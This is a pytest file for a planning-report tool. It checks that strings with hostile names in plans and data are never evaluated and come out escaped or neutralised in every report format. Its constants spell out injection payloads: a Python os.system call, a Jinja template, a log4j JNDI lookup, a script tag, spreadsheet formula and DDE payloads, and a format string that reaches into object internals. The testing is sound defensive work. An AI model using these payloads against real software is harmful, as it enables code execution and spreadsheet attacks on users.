"""No code from data: plans and tables are parsed, never run, and reports carry them inertly.

Names in the data and words in the plan hold what would run somewhere if anything ever
evaluated them: a Python expression, a Jinja template, a log4j lookup, a script tag, a
spreadsheet formula, a format string reaching into an object. The command evaluates them
into every report format: nothing runs, each string comes out as written (JSON, text), the
HTML escapes it and carries no script at all, the spreadsheets neutralise formulas, and a
plan's own words cannot look into the values they are filled with.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import os
import subprocess
from pathlib import Path
from typing import Any

import pytest
from builders import PLAN_HEAD, community, district, organizations, township, write_tables
from click.testing import CliRunner

import scoplan
from scoplan.cli import main

PYTHON = "__import__('os').system('touch PWNED')"
JINJA = "{{7*7}}"
JNDI = "${jndi:ldap://example.invalid/x}"
SCRIPT = '<script>alert("x")</script>'
FORMULA = '=HYPERLINK("http://example.invalid","点我")'
DDE = "@SUM(1+1)*cmd|' /C calc'!A0"
FORMAT = "{0}{value!r}{__class__}"
HOSTILE = (PYTHON, JINJA, JNDI, SCRIPT, FORMULA, DDE, FORMAT)
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")


@pytest.fixture
def hostile_data(tmp_path: Path) -> Path:
    """Two districts, townships and communities named with hostile strings; a community with
    organizations below any threshold, so that names appear in shortfalls."""
    tables = {
        "districts": [district("D1", name=SCRIPT), district("D2", name=FORMULA)],
        "townships": [township("T1", "D1", name=PYTHON), township("T2", "D2", name=JINJA)],
        "communities": [
            community("C1", "T1", name=JNDI),
            community("C2", "T2", name=DDE),
            community("C3", "T2", name=FORMAT),
        ],
        "organizations": [
            # two of one name, founded on other days: not one entered twice (a warning);
            # the second in the year judged, lest the register be warned of as stale
            {**row, "name": PYTHON, "备注": FORMULA}
            for row in organizations("C1", 1) + organizations("C1", 1, dt.date(2023, 2, 2), "B")
        ],
    }
    return write_tables(tmp_path / "data", tables)


def toml(text: str) -> str:
    """A TOML basic string."""
    return json.dumps(text, ensure_ascii=False)


@pytest.fixture
def hostile_plan(tmp_path: Path) -> Path:
    """A plan whose title, reading, clause, group and words hold hostile strings, and whose
    own words try to reach into the values they are filled with."""
    text = PLAN_HEAD.replace('"测试计划"', toml(JINJA + SCRIPT))
    text += "\n[terms.en]\n"
    text += f"{toml('gap.more')} = {toml('{amount.__class__.__init__.__globals__} {noun}')}\n"
    text += "\n[terms.zh]\n"
    text += f"{toml('gap.more')} = {toml('还差{amount:%Y}{noun[0]}')}\n"
    text += "\n[groups.g]\n"
    text += f'name = {toml(FORMULA)}\ndistricts = ["D1", "D2"]\nreading = {toml(JNDI)}\n'
    text += "\n[[milestones]]\n"
    text += 'id = "m1"\ntarget = "urban-average"\ndue = 2022-12-31\n'
    text += f"title = {toml(PYTHON)}\ntitle_en = {toml(JINJA)}\nreading = {toml(DDE)}\n"
    text += 'params = { threshold = 15 }\nscope = { districts = ["D1", "D2"], each = true }\n'
    text += f"clauses = [{{ ref = {toml(SCRIPT)}, text = {toml(FORMAT)} }}]\n"
    text += "\n[[milestones]]\n"
    text += 'id = "m2"\ntarget = "urban-average"\ndue = 2022-12-31\n'
    text += 'params = { threshold = 15 }\nscope = { group = "g" }\n'
    path = tmp_path / "plan.toml"
    path.write_text(text, encoding="utf-8")
    return path


@pytest.fixture
def nothing_runs(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> list[str]:
    """Calls to os.system or a subprocess, recorded instead of made; the run's own folder."""
    calls: list[str] = []
    monkeypatch.setattr(os, "system", lambda command: calls.append(str(command)) or 0)

    def popen(*args: Any, **kwargs: Any) -> Any:
        calls.append(repr(args))
        raise OSError("no subprocess in this test")

    monkeypatch.setattr(subprocess, "Popen", popen)
    monkeypatch.chdir(tmp_path)
    return calls


def strings(value: Any) -> list[str]:
    """Every string in a JSON value."""
    if isinstance(value, str):
        return [value]
    if isinstance(value, dict):
        return [s for v in value.values() for s in strings(v)]
    if isinstance(value, list):
        return [s for v in value for s in strings(v)]
    return []


@pytest.fixture
def reports(
    hostile_data: Path, hostile_plan: Path, tmp_path: Path, nothing_runs: list[str]
) -> dict[str, dict[str, Path]]:
    """Every format of the report, in both languages: ``{lang: {extension: path}}``."""
    formats = ",".join(scoplan.load_registry().renderers)
    out: dict[str, dict[str, Path]] = {}
    for lang in ("zh", "en"):
        folder = tmp_path / f"out-{lang}"
        result = CliRunner().invoke(
            main,
            [
                "evaluate",
                str(hostile_data),
                "--plan",
                str(hostile_plan),
                "--as-of",
                "2023-06-30",
                "--format",
                formats,
                "--lang",
                lang,
                "-o",
                str(folder),
            ],
        )
        assert result.exit_code == 1, result.output  # not met: the communities are short
        written = {"zh": "已写入", "en": "wrote"}[lang]
        assert result.stderr == f"{written} {folder}\n"  # and nothing else
        out[lang] = {p.suffix.lstrip("."): p for p in folder.iterdir()}
    assert nothing_runs == []
    assert not (tmp_path / "PWNED").exists()
    return out


def test_the_json_report_carries_every_hostile_string_as_written(reports) -> None:
    """Each string from the data and the plan is in the JSON report, unchanged."""
    found = set(strings(json.loads(reports["en"]["json"].read_text(encoding="utf-8"))))
    for text in HOSTILE:
        assert text in found, text
    assert JINJA + SCRIPT in found  # the plan's title


@pytest.mark.parametrize("lang", ["zh", "en"])
def test_the_text_report_shows_them_as_written(reports, lang: str) -> None:
    """The text report names the scopes and units by their hostile names, verbatim."""
    text = reports[lang]["txt"].read_text(encoding="utf-8")
    title = PYTHON if lang == "zh" else JINJA
    for name in (SCRIPT, FORMULA, JNDI, DDE, FORMAT, title):
        assert name in text, name


def test_a_plans_words_cannot_reach_into_values(reports) -> None:
    """``{amount.__class__.__init__.__globals__}`` in the plan's words stays as written; a
    format that does not fit its value shows the value; nothing of Python shows."""
    english = reports["en"]["txt"].read_text(encoding="utf-8")
    assert "Gap: {amount.__class__.__init__.__globals__} organizations" in english
    chinese = reports["zh"]["txt"].read_text(encoding="utf-8")
    assert "{noun[0]}" in chinese
    for text in (english, chinese):
        assert "<class" not in text
        assert "__builtins__" not in text


@pytest.mark.parametrize("lang", ["zh", "en"])
def test_the_html_report_escapes_every_string_and_has_no_script(reports, lang: str) -> None:
    """No script element at all; the script from the data shows as text; the template from
    the data is not run by the page's template engine."""
    page = reports[lang]["html"].read_text(encoding="utf-8")
    assert "<script" not in page.lower()
    assert "&lt;script&gt;alert(&#34;x&#34;)&lt;/script&gt;" in page
    assert JINJA in page
    assert "javascript:" not in page.lower()


@pytest.mark.parametrize("lang", ["zh", "en"])
def test_the_csv_report_neutralises_formulas(reports, lang: str) -> None:
    """Every text cell a spreadsheet would run as a formula starts with a quote; the hostile
    names are there, quoted so."""
    rows = list(csv.reader(io.StringIO(reports[lang]["csv"].read_text(encoding="utf-8-sig"))))
    cells = [cell for row in rows for cell in row]
    for cell in cells:
        if cell.startswith(FORMULA_STARTS):
            float(cell)  # only a negative number may start so
    assert any(cell.startswith("'" + FORMULA) for cell in cells)
    assert any(cell == "'" + DDE for cell in cells)


@pytest.mark.parametrize("lang", ["zh", "en"])
def test_the_workbook_has_no_formula(reports, lang: str) -> None:
    """No cell of the workbook is a formula; text that would be one starts with a quote."""
    from openpyxl import load_workbook

    book = load_workbook(reports[lang]["xlsx"])
    texts = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
                    assert not cell.value.startswith(FORMULA_STARTS), cell.value
    assert "'" + FORMULA in texts


def test_the_markdown_report_escapes_the_names(reports) -> None:
    """A name cannot open an HTML tag or a formula in the Markdown report."""
    markdown = reports["en"]["md"].read_text(encoding="utf-8")
    assert SCRIPT not in markdown
    assert "<script" not in markdown


def test_a_hostile_cell_in_a_plan_or_data_is_not_evaluated_by_the_api(hostile_data: Path) -> None:
    """Through the API too: the names are plain strings of the dataset, as written."""
    data = scoplan.load(hostile_data)
    assert data.get("districts", "D1").name == SCRIPT
    assert data.get("townships", "T1").name == PYTHON
    assert data.get("communities", "C3").name == FORMAT
    organization = data.get("organizations", "C1-O0")
    assert (organization.name, organization.extra) == (PYTHON, {"备注": FORMULA})
    assert dt.date(2020, 1, 1) == organization.founded
